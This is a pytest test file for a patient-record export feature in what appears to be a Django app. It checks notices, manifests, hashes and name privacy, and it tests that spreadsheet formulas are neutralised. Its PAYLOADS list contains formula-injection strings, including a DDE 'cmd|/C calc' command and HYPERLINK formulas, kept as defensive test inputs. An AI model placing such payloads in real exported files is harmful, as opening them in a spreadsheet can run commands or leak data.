"""The envelope of what leaves: its notice, its manifest, its names, and cells that no spreadsheet runs."""

import csv
import hashlib
import io

import pytest
from django.db import IntegrityError, transaction

from interactions.services.concerns import raise_concern
from patients.exports import LIFE, Sheet, as_csv, cell
from patients.models import Export
from patients.notices import FULL, SHORT
from staff.calendar import DAY
from tests.factories import NOW, make_episode, make_patient
from tests.taking_out import ask, download, opened, take


@pytest.fixture
def browser(at, sign_in, mara, dana):
    at(NOW)
    return sign_in(mara)


def test_the_notice_the_manifest_and_the_id_are_inside(browser, mara, dana):
    got = download(browser, "patients", {"status": "in_care"}, purpose="theirs")
    export = Export.objects.get()

    assert FULL.text in got.notice
    assert str(export.ref) in got.notice
    assert {row["Export"] for row in got.rows} == {str(export.ref)}
    assert got.manifest["export"] == str(export.ref)
    assert got.manifest["by"] == str(mara.ref)
    assert got.manifest["filters"] == {"status": "in_care"}
    assert got.manifest["purpose"] == "theirs"
    assert got.manifest["rows"] == len(got.rows) == 1
    proved = hashlib.sha256(got.files["data.csv"]).hexdigest()
    assert got.manifest["files"]["data.csv"] == {"rows": 1, "sha256": proved}


def test_the_hash_that_is_kept_is_that_of_what_left(browser):
    for kind in ("file", "paper"):
        answer = take(browser, "patients", kind=kind)

        assert (
            Export.objects.newest_first().filter(kind=kind).get().sha256 == hashlib.sha256(answer.content).hexdigest()
        )


def test_paper_says_who_when_and_the_notice_on_each_page(browser, mara, dana):
    page = take(browser, "patients", kind="paper").content.decode()
    export = Export.objects.get()
    foot = page.partition("<tfoot>")[2].partition("</tfoot>")[0]

    assert dana.display_name in page
    assert all(words in foot for words in (str(export.ref), mara.name, "2026-06-10 10:00", SHORT.text))


def test_on_paper_stands_nobody_but_those_whom_it_is_about(browser, mara, dana, residential):
    other = make_episode(patient=make_patient("Ezra", "Bloom"), program=residential, primary=mara).patient
    raise_concern(patient=other, by=mara, now=NOW, words="I am not safe", urgency="safety")

    page = take(browser, "record", {"patient": dana.ref}, kind="paper").content.decode()

    assert "Ezra" in browser.get("/patients/").content.decode()
    assert dana.called in page
    assert "Ezra" not in page


def test_no_name_stands_in_the_address_the_file_name_or_a_header(browser, dana, settings):
    settings.PUBLIC_NAME = "Day Book"
    key = browser.post("/patients/search/", {"q": dana.family_name}).url.partition("s=")[2]

    asked = ask(browser, "patients", {"s": key})
    answer = browser.post(asked.url)

    ref = Export.objects.get().ref
    assert answer["Content-Disposition"] == f'attachment; filename="day-book-{ref}.zip"'
    assert answer["Cache-Control"] == "no-store, private"
    said = " ".join([asked.url, *map(str, answer.headers.values()), *map(str, Export.objects.values_list("filters"))])
    assert dana.family_name not in said
    assert len(opened(answer).rows) == 1
    assert opened(answer).manifest["searched"] is True
    assert dana.family_name not in opened(answer).files["manifest.json"].decode()


def test_names_in_every_script_come_through(browser, mara, residential):
    make_episode(patient=make_patient("Zoë 王小明", "Ünal; “x”\n"), program=residential, primary=mara)

    got = download(browser, "patients")

    assert "Zoë 王小明 Ünal; “x”" in {row["Name"].strip() for row in got.rows}
    assert got.files["data.csv"].startswith(b"\xef\xbb\xbf")


SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢")
BEFORE = ("", " ", "   ", "\u00a0", "\u200b", "\ufeff ", "\n", "\u3000")
PAYLOADS = [
    *(f"{before}{sign}cmd|' /C calc'!A0" for sign in SIGNS[:4] for before in BEFORE),
    *(f"{sign}HYPERLINK(\"http://example.org/\"&A1)" for sign in SIGNS[4:]),
    "\t=1+1", "\r=1+1", "\0=1+1", "\tplain", "\rplain", "\0plain", "-1+1", "+1 555 0100", "@SUM(1)", '="a""b"',
]  # fmt: skip
HARMLESS = ["a=b", "mara@example.org", "well-known", "3 + 4", "’=1", "", " ", "Zoë", "'=1", "1-2"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_run_as_a_formula(payload, mara):
    export = Export(by=mara)

    content = as_csv(Sheet("data", "", ("Words", "After"), [(payload, 7)]), export).decode("utf-8-sig")

    [_, row] = list(csv.reader(io.StringIO(content, newline="")))
    assert row == [str(export.ref), f"'{payload}", "7"]


def test_what_is_harmless_stays_and_numbers_stay_numbers():
    assert len(PAYLOADS) >= 40
    assert [cell(words) for words in HARMLESS] == HARMLESS
    assert [cell(n) for n in (-7, 0, -1.5)] == [-7, 0, -1.5]
    assert (cell(True), cell(None)) == ("Yes", "")


def test_a_formula_as_a_name_leaves_disarmed(browser, mara, residential):
    make_episode(patient=make_patient("=1+1", "+Bloom"), program=residential, primary=mara)

    got = download(browser, "patients")

    assert "'=1+1 +Bloom" in {row["Name"] for row in got.rows}


# The database


@pytest.mark.parametrize(
    "wrong",
    [
        {"purpose": "fun"},
        {"kind": "fax"},
        {"purpose": "other", "words": ""},
        {"taken_at": NOW},
        {"rows": 3},
        {"taken_at": NOW + LIFE + DAY, "rows": 3, "sha256": "0" * 64},
        {"taken_at": NOW - DAY, "rows": 3, "sha256": "0" * 64},
    ],
)
def test_the_database_holds_the_rules(browser, wrong):
    ask(browser, "patients")

    with pytest.raises(IntegrityError), transaction.atomic():
        Export.objects.update(**wrong)
